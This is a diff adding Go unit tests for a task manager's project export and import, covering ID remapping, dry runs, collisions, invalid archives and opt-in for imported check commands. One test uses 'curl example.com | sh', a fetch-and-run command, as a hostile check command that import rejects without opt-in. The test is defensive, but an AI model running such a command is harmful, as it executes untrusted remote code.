@@ -0,0 +1,249 @@
+package application_test
+
+import (
+	"errors"
+	"testing"
+	"time"
+
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/application"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/application/dto"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/application/mocks"
+	"github.com/kgatilin/ai-task-manager/internal/task_manager/domain/entities"
+	tmerrors "github.com/kgatilin/ai-task-manager/internal/task_manager/domain/errors"
+)
+
+// newArchiveTestProjectData returns a small project with one entity of each kind, linked together
+func newArchiveTestProjectData(t *testing.T) *entities.ProjectData {
+	t.Helper()
+	now := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
+
+	roadmap, err := entities.NewRoadmapEntity("roadmap-1", "Vision", "Criteria", now, now)
+	if err != nil {
+		t.Fatalf("NewRoadmapEntity failed: %v", err)
+	}
+	track1, _ := entities.NewTrackEntity("AL-track-1", roadmap.ID, "Core", "", "in-progress", 100, nil, now, now)
+	track2, _ := entities.NewTrackEntity("AL-track-2", roadmap.ID, "UI", "", "not-started", 200, []string{"AL-track-1"}, now, now)
+	task1, _ := entities.NewTaskEntity("AL-task-1", track1.ID, "Model", "", "done", 100, "", now, now)
+	task2, _ := entities.NewTaskEntity("AL-task-2", track2.ID, "Screen", "", "todo", 200, "", now, now)
+	task2.BlockedBy = []string{task1.ID}
+	iteration, _ := entities.NewIterationEntity(1, "Sprint 1", "Goal", "", []string{task1.ID, task2.ID}, "current", 500, now, time.Time{}, now, now)
+	ac := entities.NewAcceptanceCriteriaEntity("AL-ac-1", task1.ID, "Model works", entities.VerificationTypeManual, "", now, now)
+	ac.Status = entities.ACStatusVerified
+	adr, _ := entities.NewADREntity("AL-adr-1", track1.ID, "Use SQLite", "accepted", "ctx", "dec", "cons", "", now, now, nil)
+	doc, _ := entities.NewDocumentEntity("TM-doc-1", "Plan", entities.DocumentTypePlan, entities.DocumentStatusDraft, "text", &track1.ID, nil, now, now)
+
+	return &entities.ProjectData{
+		Code:       "AL",
+		Roadmap:    roadmap,
+		Tracks:     []*entities.TrackEntity{track1, track2},
+		Tasks:      []*entities.TaskEntity{task1, task2},
+		Iterations: []*entities.IterationEntity{iteration},
+		ACs:        []*entities.AcceptanceCriteriaEntity{ac},
+		ADRs:       []*entities.ADREntity{adr},
+		Documents:  []*entities.DocumentEntity{doc},
+		StatusHistory: []*entities.TaskStatusChange{
+			{TaskID: task1.ID, ToStatus: "todo", ChangedAt: now},
+			{TaskID: task1.ID, FromStatus: "todo", ToStatus: "done", ChangedAt: now.Add(time.Hour)},
+		},
+	}
+}
+
+// setupArchiveTestService creates a project service with an exportable project "alpha"
+func setupArchiveTestService(t *testing.T) (*application.ProjectApplicationService, *mocks.MockProjectManagementRepository, *dto.ProjectArchiveDTO) {
+	service, mockRepo := setupProjectTestService(t)
+	if err := mockRepo.CreateProject("alpha", "AL"); err != nil {
+		t.Fatalf("CreateProject failed: %v", err)
+	}
+	mockRepo.SetProjectData("alpha", newArchiveTestProjectData(t))
+
+	archive, err := service.ExportProject("alpha")
+	if err != nil {
+		t.Fatalf("ExportProject failed: %v", err)
+	}
+	return service, mockRepo, archive
+}
+
+func TestExportProject(t *testing.T) {
+	_, _, archive := setupArchiveTestService(t)
+
+	if archive.Format != dto.ProjectArchiveFormat || archive.Version != dto.ProjectArchiveVersion {
+		t.Errorf("archive header = %s/%d, want %s/%d", archive.Format, archive.Version, dto.ProjectArchiveFormat, dto.ProjectArchiveVersion)
+	}
+	if archive.Project.Name != "alpha" || archive.Project.Code != "AL" {
+		t.Errorf("archive project = %+v, want alpha/AL", archive.Project)
+	}
+	if len(archive.Tracks) != 2 || len(archive.Tasks) != 2 || len(archive.Iterations) != 1 ||
+		len(archive.AcceptanceCriteria) != 1 || len(archive.ADRs) != 1 || len(archive.Documents) != 1 {
+		t.Errorf("unexpected section sizes: %+v", archive)
+	}
+	if len(archive.TrackDependencies) != 1 || archive.TrackDependencies[0].DependsOnID != "AL-track-1" {
+		t.Errorf("TrackDependencies = %+v, want AL-track-2 -> AL-track-1", archive.TrackDependencies)
+	}
+	if len(archive.TaskDependencies) != 1 || archive.TaskDependencies[0].BlockedByID != "AL-task-1" {
+		t.Errorf("TaskDependencies = %+v, want AL-task-2 blocked by AL-task-1", archive.TaskDependencies)
+	}
+	if len(archive.IterationTasks) != 2 || archive.IterationTasks[1].TaskID != "AL-task-2" {
+		t.Errorf("IterationTasks = %+v, want both tasks in order", archive.IterationTasks)
+	}
+	if len(archive.TaskStatusHistory) != 2 {
+		t.Errorf("TaskStatusHistory has %d entries, want 2", len(archive.TaskStatusHistory))
+	}
+}
+
+func TestExportProject_NotFound(t *testing.T) {
+	service, _ := setupProjectTestService(t)
+
+	_, err := service.ExportProject("missing")
+	if !errors.Is(err, tmerrors.ErrNotFound) {
+		t.Errorf("ExportProject error = %v, want ErrNotFound", err)
+	}
+}
+
+func TestImportProject_RemapsIDs(t *testing.T) {
+	service, mockRepo, archive := setupArchiveTestService(t)
+
+	var imported *entities.ProjectData
+	mockRepo.ImportProjectDataFunc = func(projectName string, data *entities.ProjectData) error {
+		imported = data
+		return nil
+	}
+
+	result, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta", ProjectCode: "BE"})
+	if err != nil {
+		t.Fatalf("ImportProject failed: %v", err)
+	}
+	if !result.Remapped || result.SourceCode != "AL" || result.ProjectCode != "BE" || result.Tasks != 2 {
+		t.Errorf("unexpected result: %+v", result)
+	}
+	if imported == nil {
+		t.Fatal("ImportProjectData was not called")
+	}
+
+	if imported.Code != "BE" {
+		t.Errorf("Code = %s, want BE", imported.Code)
+	}
+	if imported.Tracks[1].ID != "BE-track-2" || imported.Tracks[1].Dependencies[0] != "BE-track-1" {
+		t.Errorf("track not remapped: %+v", imported.Tracks[1])
+	}
+	if imported.Tasks[1].ID != "BE-task-2" || imported.Tasks[1].TrackID != "BE-track-2" || imported.Tasks[1].BlockedBy[0] != "BE-task-1" {
+		t.Errorf("task not remapped: %+v", imported.Tasks[1])
+	}
+	if imported.Iterations[0].TaskIDs[0] != "BE-task-1" || imported.Iterations[0].StartedAt == nil {
+		t.Errorf("iteration not rebuilt: %+v", imported.Iterations[0])
+	}
+	if imported.ACs[0].ID != "BE-ac-1" || imported.ACs[0].TaskID != "BE-task-1" || imported.ACs[0].Status != entities.ACStatusVerified {
+		t.Errorf("AC not remapped: %+v", imported.ACs[0])
+	}
+	if imported.ADRs[0].ID != "BE-adr-1" || imported.ADRs[0].TrackID != "BE-track-1" {
+		t.Errorf("ADR not remapped: %+v", imported.ADRs[0])
+	}
+	if imported.Documents[0].ID != "TM-doc-1" || *imported.Documents[0].TrackID != "BE-track-1" {
+		t.Errorf("document not remapped: %+v", imported.Documents[0])
+	}
+	if imported.StatusHistory[1].TaskID != "BE-task-1" || imported.StatusHistory[1].ToStatus != "done" {
+		t.Errorf("status history not remapped: %+v", imported.StatusHistory[1])
+	}
+}
+
+func TestImportProject_CodeCollision(t *testing.T) {
+	service, mockRepo, archive := setupArchiveTestService(t)
+
+	_, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta"})
+	if !errors.Is(err, tmerrors.ErrAlreadyExists) {
+		t.Fatalf("ImportProject error = %v, want ErrAlreadyExists", err)
+	}
+	if exists, _ := mockRepo.ProjectExists("beta"); exists {
+		t.Error("project was created despite the collision")
+	}
+}
+
+func TestImportProject_ExistingProject(t *testing.T) {
+	service, _, archive := setupArchiveTestService(t)
+
+	_, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectCode: "BE"})
+	if !errors.Is(err, tmerrors.ErrAlreadyExists) {
+		t.Errorf("ImportProject error = %v, want ErrAlreadyExists", err)
+	}
+}
+
+func TestImportProject_DryRun(t *testing.T) {
+	service, mockRepo, archive := setupArchiveTestService(t)
+
+	result, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta", ProjectCode: "BE", DryRun: true})
+	if err != nil {
+		t.Fatalf("ImportProject failed: %v", err)
+	}
+	if !result.DryRun || result.ADRs != 1 {
+		t.Errorf("unexpected result: %+v", result)
+	}
+	if exists, _ := mockRepo.ProjectExists("beta"); exists {
+		t.Error("dry run created the project")
+	}
+}
+
+func TestImportProject_CheckCommandsNeedOptIn(t *testing.T) {
+	service, mockRepo, archive := setupArchiveTestService(t)
+	archive.AcceptanceCriteria[0].CheckCommand = "curl example.com | sh"
+
+	imported := false
+	mockRepo.ImportProjectDataFunc = func(projectName string, data *entities.ProjectData) error {
+		imported = true
+		return nil
+	}
+
+	_, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta", ProjectCode: "BE"})
+	if !errors.Is(err, tmerrors.ErrRejected) {
+		t.Fatalf("ImportProject error = %v, want ErrRejected", err)
+	}
+	if imported {
+		t.Error("archive with a check command was imported without opt-in")
+	}
+
+	result, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta", ProjectCode: "BE", DryRun: true})
+	if err != nil {
+		t.Fatalf("dry run failed: %v", err)
+	}
+	want := dto.ImportedCheckCommandDTO{ACID: "BE-ac-1", Command: "curl example.com | sh"}
+	if len(result.CheckCommands) != 1 || result.CheckCommands[0] != want {
+		t.Errorf("dry run CheckCommands = %+v, want [%+v]", result.CheckCommands, want)
+	}
+
+	if _, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta", ProjectCode: "BE", AllowCheckCommands: true}); err != nil {
+		t.Fatalf("ImportProject with AllowCheckCommands failed: %v", err)
+	}
+	if !imported {
+		t.Error("archive was not imported with AllowCheckCommands")
+	}
+}
+
+func TestImportProject_InvalidArchive(t *testing.T) {
+	tests := []struct {
+		name   string
+		modify func(archive *dto.ProjectArchiveDTO)
+	}{
+		{"wrong format", func(a *dto.ProjectArchiveDTO) { a.Format = "something-else" }},
+		{"future version", func(a *dto.ProjectArchiveDTO) { a.Version = dto.ProjectArchiveVersion + 1 }},
+		{"invalid task status", func(a *dto.ProjectArchiveDTO) { a.Tasks[0].Status = "finished" }},
+		{"unknown track", func(a *dto.ProjectArchiveDTO) { a.Tasks[0].TrackID = "AL-track-9" }},
+		{"unknown blocker", func(a *dto.ProjectArchiveDTO) { a.TaskDependencies[0].BlockedByID = "AL-task-9" }},
+		{"unknown iteration task", func(a *dto.ProjectArchiveDTO) { a.IterationTasks[0].TaskID = "AL-task-9" }},
+		{"invalid AC status", func(a *dto.ProjectArchiveDTO) { a.AcceptanceCriteria[0].Status = "maybe" }},
+		{"duplicate task", func(a *dto.ProjectArchiveDTO) { a.Tasks[1].ID = a.Tasks[0].ID }},
+		{"tracks without roadmap", func(a *dto.ProjectArchiveDTO) { a.Roadmap = nil }},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			service, mockRepo, archive := setupArchiveTestService(t)
+			tt.modify(archive)
+
+			_, err := service.ImportProject(dto.ImportProjectDTO{Archive: archive, ProjectName: "beta", ProjectCode: "BE"})
+			if !errors.Is(err, tmerrors.ErrInvalidArgument) {
+				t.Errorf("ImportProject error = %v, want ErrInvalidArgument", err)
+			}
+			if exists, _ := mockRepo.ProjectExists("beta"); exists {
+				t.Error("invalid archive created the project")
+			}
+		})
+	}
+}